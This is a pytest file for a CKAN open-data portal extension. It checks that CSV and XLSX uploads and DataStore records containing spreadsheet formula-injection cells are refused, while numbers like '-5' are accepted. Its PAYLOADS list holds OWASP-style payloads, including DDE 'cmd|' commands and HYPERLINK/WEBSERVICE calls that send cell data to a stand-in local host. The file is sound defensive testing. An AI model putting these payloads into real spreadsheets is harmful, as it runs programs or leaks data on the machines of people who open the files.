"""Part of finding 8 of issue 19: CSV/XLSX cells such as ``=HYPERLINK(…)``, ``=cmd|…`` and
``@SUM(…)*cmd|…`` were served verbatim in downloads (OWASP "CSV injection"). The portal
keeps its CSV verbatim (README, Security) and instead the gate refuses any table holding a
cell a spreadsheet would run to open a link or a program — uploads (CSV and XLSX, text cells
and real formula cells alike) and DataStore writes. Numbers such as ``-5`` stay data."""
from __future__ import annotations

import io

import pytest
from openpyxl import Workbook
from werkzeug.datastructures import FileStorage

import ckan.plugins.toolkit as tk
from ckan.lib.uploader import get_resource_uploader
from ckan.tests import factories, helpers

from ckanext.smartcity.privacy.formula import risky

PLUGINS = "smartcity scheming_datasets scheming_organizations scheming_groups datastore"
pytestmark = [pytest.mark.ckan_config("ckan.plugins", PLUGINS),
              pytest.mark.usefixtures("with_plugins", "clean_datastore", "clean_index")]

#: OWASP's payloads and variants (DDE, links, web requests), each behind another trigger
PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1:9/thu-thap?d="&A2,"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=WEBSERVICE(\"http://127.0.0.1:9/\")",
    "\r=IMPORTXML(\"http://127.0.0.1:9/\",\"//a\")",
    "  =hyperlink(\"http://127.0.0.1:9/\")",
]
#: data that merely starts like a formula
HARMLESS = ["-5", "+12", "-12.5", "@danang_gov", "- Hải Châu (cũ)", "=", "-",
            "+ 3 (ước tính)"]


@pytest.fixture
def dataset(user) -> dict:
    org = factories.Organization()
    return helpers.call_action(
        "package_create", dict(user), type="health", name="ca-benh-cong-thuc",
        title="Ca bệnh", owner_org=org["id"], update_frequency="annual",
        admin_units=["20194"], data_classification="open", personal_data="aggregated",
        min_cell_size=10, temporal_start="2025-07-01", temporal_end="2025-12-31")


def _csv(value: str) -> bytes:
    quoted = '"' + value.replace('"', '""') + '"'
    return f"ma_xa,ghi_chu,so_ca\r\n20194,{quoted},12\r\n20197,ổn định,30\r\n".encode()


def _xlsx(value: object, formula: bool = False) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["ma_xa", "ghi_chu", "so_ca"])
    sheet.append(["20194", None, 12])
    cell = sheet["B2"]
    cell.value = value
    if not formula:
        cell.data_type = "s"  # a text cell that merely starts with "=" …
    sheet.append(["20197", "ổn định", 30])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _upload(user, dataset, name: str, data: bytes) -> dict:
    return helpers.call_action("resource_create", dict(user), package_id=dataset["id"],
                               name=name, upload=FileStorage(io.BytesIO(data), filename=name))


def _refused(call, *parts: str) -> str:
    with pytest.raises(tk.ValidationError) as err:
        call()
    text = str(err.value.error_dict)
    for part in parts:
        assert part in text, (part, text)
    assert "127.0.0.1:9" not in text and "calc" not in text  # never the value
    return text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_refused_in_csv_and_xlsx_uploads(storage, user, dataset, payload):
    _refused(lambda: _upload(user, dataset, "ghi-chu.csv", _csv(payload)),
             "ghi-chu.csv", "ghi_chu", "record 1", "formula")
    _refused(lambda: _upload(user, dataset, "ghi-chu.xlsx", _xlsx(payload)),
             "ghi-chu.xlsx", "ghi_chu", "formula")
    assert helpers.call_action("package_show", id=dataset["id"])["resources"] == []


def test_real_formula_cells_that_reach_outside_are_refused_others_pass(storage, user,
                                                                       dataset):
    _refused(lambda: _upload(user, dataset, "lien-ket.xlsx", _xlsx(
        '=HYPERLINK("http://127.0.0.1:9/x","bấm")', formula=True)),
        "lien-ket.xlsx", "HYPERLINK")
    _refused(lambda: _upload(user, dataset, "dde.xlsx", _xlsx(
        "=cmd|' /C calc'!A0", formula=True)), "dde.xlsx", "DDE")
    resource = _upload(user, dataset, "tong.xlsx", _xlsx("=SUM(C2:C3)", formula=True))
    assert resource["url_type"] == "upload"


def test_harmless_values_pass_and_csv_is_served_verbatim(storage, user, dataset):
    assert not any(risky(v) for v in HARMLESS) and all(risky(v) for v in PAYLOADS)
    lines = ["ma_xa,ghi_chu,so_ca"] + [f'2019{i},"{v}",{i}' for i, v in enumerate(HARMLESS)]
    resource = _upload(user, dataset, "du-lieu.csv", ("\r\n".join(lines) + "\r\n").encode())
    path = get_resource_uploader(dict(resource)).get_path(resource["id"])
    stored = open(path, encoding="utf-8-sig").read()
    for value in HARMLESS:
        assert f'"{value}"' in stored or f",{value}," in stored  # no ' prefix added


def test_datastore_records_with_formula_cells_are_refused(user, dataset):
    resource = helpers.call_action("resource_create", dict(user), package_id=dataset["id"],
                                   name="bang", url="http://127.0.0.1:9/bang", format="API")
    fields = [{"id": "ma_xa", "type": "text"}, {"id": "ghi_chu", "type": "text"}]
    for payload in PAYLOADS[:3]:
        _refused(lambda: helpers.call_action(
            "datastore_create", dict(user), resource_id=resource["id"], force=True,
            fields=fields, records=[{"ma_xa": "20194", "ghi_chu": payload}]),
            "ghi_chu", "formula")
    helpers.call_action("datastore_create", dict(user), resource_id=resource["id"],
                        force=True, fields=fields,
                        records=[{"ma_xa": "20194", "ghi_chu": v} for v in HARMLESS])
